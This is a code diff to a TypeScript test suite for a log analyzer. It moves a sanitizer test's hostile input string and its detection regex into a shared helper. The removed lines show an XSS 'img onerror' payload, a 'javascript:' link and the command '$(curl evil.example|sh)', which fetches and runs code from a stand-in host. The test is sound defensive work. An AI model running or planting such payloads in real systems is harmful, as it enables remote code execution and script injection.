@@ -5,11 +5,10 @@ import { type Analysis, analyzeLog } from '../src/analyzer/analyze.js';
 import { BUILTIN_RULES } from '../src/analyzer/builtin-rules.js';
 import { mayBeat, SCORING_SCANS } from '../src/analyzer/fallback.js';
 import { type Rule, RuleSet } from '../src/analyzer/rule.js';
-import { factLines, keyLinesBlock, nextStep } from '../src/filing/issue-body.js';
 import { generateFix } from '../src/fixes/generate-fix.js';
 import { distributionFor } from '../src/fixes/python-modules.js';
-import { createSanitizer } from '../src/text/sanitize.js';
 import { context, findingOf, memoryRepo } from './fixes/helpers.js';
+import { expectInertIssueText, HOSTILE } from './inert-issue-text.js';
 import { seededRandom } from './seeded-random.js';
 
 /**
@@ -152,8 +151,7 @@ describe("carthage.shell-task's category comes from where the task starts, not f
 });
 
 describe("the new rules' facts reach an issue only through the sanitizer", () => {
-  const E = '@maintainer <img src=x onerror=alert(1)> [x](javascript:alert(1)) $(curl evil.example|sh) #123';
-  const LIVE = /(^|[^\w`])@maintainer\b|<img|\]\(javascript:|\$\(curl|(^|[^\w&`])#123\b/;
+  const E = HOSTILE;
   const logs: Array<[string, string]> = [
     [
       'xcrun.missing-utility',
@@ -171,15 +169,7 @@ describe("the new rules' facts reach an issue only through the sanitizer", () =>
       const f = a.findings[0]!;
       expect(f.rule).toBe(rule);
       expect(f.excerpt.map((l) => l.text).join('\n')).toContain('@maintainer');
-      const s = createSanitizer();
-      const out = [...factLines(s, f.facts), nextStep(s, a.category, f.facts), keyLinesBlock(s, f)].join(
-        '\n',
-      );
-      // The key lines are a fenced block (inert as a whole); everything else is markdown.
-      const outsideCode = out.replace(/^(`{3,}|~{3,})[^\n]*\n[\s\S]*?\n\1\s*$/gm, '');
-      expect(outsideCode).not.toBe(out);
-      expect(outsideCode, out).not.toMatch(LIVE);
-      expect(s.title(f.title)).not.toMatch(/(^|[^\w`])@maintainer\b|(^|[^\w&`])#123\b/);
+      expectInertIssueText(a);
     });
 });
 
